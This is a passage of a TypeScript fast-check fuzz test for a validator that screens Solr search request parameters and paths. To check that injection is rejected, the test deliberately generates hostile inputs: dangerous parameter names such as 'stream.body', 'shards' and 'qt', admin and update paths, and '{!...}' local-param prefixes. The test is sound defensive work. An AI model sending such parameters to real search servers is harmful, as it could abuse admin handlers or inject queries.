    values: fc.array(fc.string({ maxLength: 10 }), { maxLength: 3 }),
    missing: fc.boolean(),
    or: fc.boolean(),
  })
  .map(({ field: name, values, missing, or }) => {
    try {
      return (
        buildFieldFilters({
          field: name,
          values,
          missing,
          range: undefined,
          operator: or ? 'OR' : 'AND',
        })[0] ?? '*:*'
      );
    } catch {
      return '*:*';
    }
  });
/** Values a widget might send for each name, so a good share of sets is accepted. */
const plausible: Record<string, fc.Arbitrary<string>> = {
  q: fc.oneof(
    text.map(buildTextQuery),
    text.map((t) => `{!dismax}${t.split(' ').map(toDismaxWord).join(' ')}`),
    fc.constant('*:*'),
  ),
  fq: fc.oneof(
    fieldFilter,
    fc
      .array(fc.string({ maxLength: 8 }), { minLength: 1, maxLength: 3 })
      .map((v) => buildValuesQuery('id', v) ?? '*:*'),
  ),
  fl: fc.uniqueArray(field, { minLength: 1, maxLength: 3 }).map((fields) => fields.join(',')),
  sort: fc
    .array(fc.tuple(field, fc.constantFrom('asc', 'desc')), { minLength: 1, maxLength: 5 })
    .map((c) => c.map((p) => p.join(' ')).join(', ')),
  start: fc.integer({ min: 0, max: 10_100 }).map(String),
  rows: fc.integer({ min: 0, max: 120 }).map(String),
  'facet.field': fc
    .tuple(fc.boolean(), field)
    .map(([ex, name]) => (ex ? `{!ex=${name}}${name}` : name)),
  'facet.query': fc
    .tuple(field, fc.string({ maxLength: 8 }))
    .map(([name, value]) => `${name}:${quotePhrase(value)}`),
  'facet.prefix': fc.string({ maxLength: 110 }),
  'facet.limit': fc.integer({ min: -1, max: 210 }).map(String),
  'facet.mincount': fc.integer({ min: 0, max: 1010 }).map(String),
  ids: fc
    .array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 5 })
    .map((ids) => ids.map(escapeIdListItem).join(',')),
  boost: fc.constantFrom(RECENCY, 'fts_price', 'log(fts_price)'),
  qf: fc.constantFrom('tm_title^2 tm_body', 'tm_title', 'tm_title^x'),
  mm: fc.constantFrom('2<75%', '1', '-25%', '2<-25% 9<-3', 'all'),
  wt: fc.constantFrom('json', 'xml'),
  'json.nl': fc.constantFrom('map', 'arrarr', 'flat', 'namedlist'),
  'f.fts_price.facet.range.start': fc.constantFrom('0', '-10', 'NOW-1YEAR', '0.0000001'),
  'f.fts_price.facet.range.end': fc.constantFrom('1000', '10', 'NOW'),
  'f.fts_price.facet.range.gap': fc.constantFrom('50', '1', '+1MONTH', '0'),
  'f.ss_type.facet.missing': fc.constantFrom('true', 'false', 'yes'),
};
/** A name the widgets use, with a plausible value or, one time in four, a hostile one. */
const plausiblePair = fc.oneof(
  ...Object.entries(plausible).map(([name, value]) =>
    fc.oneof({ weight: 3, arbitrary: value }, anyValue).map((v): Pair => [name, v]),
  ),
);
const anyName = fc.oneof(
  fc.constantFrom(
    ...SINGLE,
    ...REPEATABLE,
    'f.ss_type.facet.limit',
    'f.a1.facet.range.other',
    'f._query_.facet.limit',
  ),
  fc.constantFrom(...DANGEROUS.map(([name]) => name), 'stream.body', 'json.facet', 'qt', 'shards'),
  fc.string({ maxLength: 12 }),
);
const anyPair = fc.tuple(anyName, anyValue);
const path = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom('', '/', 'select', '/select') },
  { weight: 1, arbitrary: fc.constantFrom('admin', 'update', 'select/', 'stream', 'SELECT') },
);

describe('fuzz', () => {
  it('never throws; accepted output is allowlisted, safe and re-validates to itself', () => {
    let accepted = 0;
    fc.assert(
      fc.property(
        path,
        fc.uniqueArray(
          fc.oneof({ weight: 6, arbitrary: plausiblePair }, { weight: 1, arbitrary: anyPair }),
          {
            maxLength: 12,
            // Mostly one of each single-valued name, so a good share of sets is accepted.
            selector: ([name, value]) => (SINGLE.includes(name) ? name : `${name}\u0000${value}`),
          },
        ),
        fc.option(fc.constant({ fields: new Set(FUZZ_FIELDS) }), { nil: undefined }),
        (route, params, options) => {
          const result = validateSearchRequest(route, params, options);
          if (!result.ok) {
            expect([400, 403]).toContain(result.status);
            expect([PATH_PARAM, ...params.map(([name]) => name.slice(0, 100))]).toContain(
              result.param,
            );
            return;
          }
          accepted++;
          for (const [name, value] of result.params) {
            expect(SINGLE.includes(name) || REPEATABLE.includes(name) || PER_FIELD.test(name)).toBe(
              true,
            );
            expect(FORBIDDEN_NAME.test(name)).toBe(false);
            const rest = value.replace(LEADING[name] ?? /^$/, '');
            expect(rest.includes('{!')).toBe(false);
          }
          expect(result.params.filter(([name]) => name === 'wt')).toEqual([['wt', 'json']]);
          expect(validateSearchRequest(route, result.params, options)).toEqual(result);
        },
      ),
      { numRuns: 4000 },
    );
    expect(accepted).toBeGreaterThan(500);
  });

  it('never throws on hostile input', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 20 }),
        fc.array(anyPair, { maxLength: 30 }),
        fc.integer(),
        (route, params, maxRows) => {
          const result = validateSearchRequest(route, params, { maxRows });
          expect(typeof result.ok).toBe('boolean');
        },
      ),
      { numRuns: 3000 },
    );
  });
});
